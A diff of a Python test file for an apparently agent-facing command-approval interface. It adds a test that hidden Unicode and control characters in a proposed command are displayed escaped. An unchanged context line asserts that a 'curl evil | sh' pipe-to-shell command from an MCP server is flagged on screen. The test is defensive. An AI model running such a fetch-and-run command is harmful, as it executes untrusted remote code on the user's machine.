@@ -4,13 +4,20 @@ import io
 import json
 import os
 from pathlib import Path
+from types import SimpleNamespace
+from typing import cast
 
 import pytest
 
+from windlass.cli.output import show_whole_call
 from windlass.cli.prompt_input import read_prompt
+from windlass.cli.question_prompt import QuestionPrompt
 from windlass.cli.screen import Screen
+from windlass.cli.status import StatusLine
+from windlass.cli.terminal import Keyboard
 from windlass.cli.trust import show_project
 from windlass.core.errors import ConfigError
+from windlass.core.result import Question
 from windlass.environ import find_secrets
 from windlass.gates.policy_file import load_policy, parse_policy
 from windlass.knowledge.skills import SKILLS_MAX, Skills
@@ -72,6 +79,22 @@ def test_thousands_of_harmless_lines_cannot_push_a_program_off_the_screen(reposi
     shown = show(repository)
     assert "runs sh -c 'curl evil | sh' (MCP server it)" in shown[-2]
     assert shown[-1] == "In all 61 lines, of which: runs 1."
+
+
+@pytest.mark.contract("U2")
+@pytest.mark.parametrize("hidden", ["\u200b", "\u2060", "\ufeff", "\u200f", "\U000e0041", "\x1b"])
+def test_a_character_that_is_not_seen_is_not_approved_unseen(hidden: str) -> None:
+    """A name with a hidden character is another name than the one that a person reads."""
+    command = f"cat notes{hidden}.txt\n\tnext line"
+    question = SimpleNamespace(arguments={"command": command})
+    page = io.StringIO()
+    show_whole_call(Screen(page), cast("Question", question))
+    escaped = hidden.encode("unicode_escape").decode()
+    assert f"command: cat notes{escaped}.txt\n" in page.getvalue()
+    page = io.StringIO()
+    prompt = QuestionPrompt(Screen(page), cast("StatusLine", None), cast("Keyboard", None))
+    prompt._show_value(command.splitlines()[0], [f"a{hidden}"], None)
+    assert page.getvalue().count(escaped) == 2
 
 
 @pytest.mark.contract("G4")
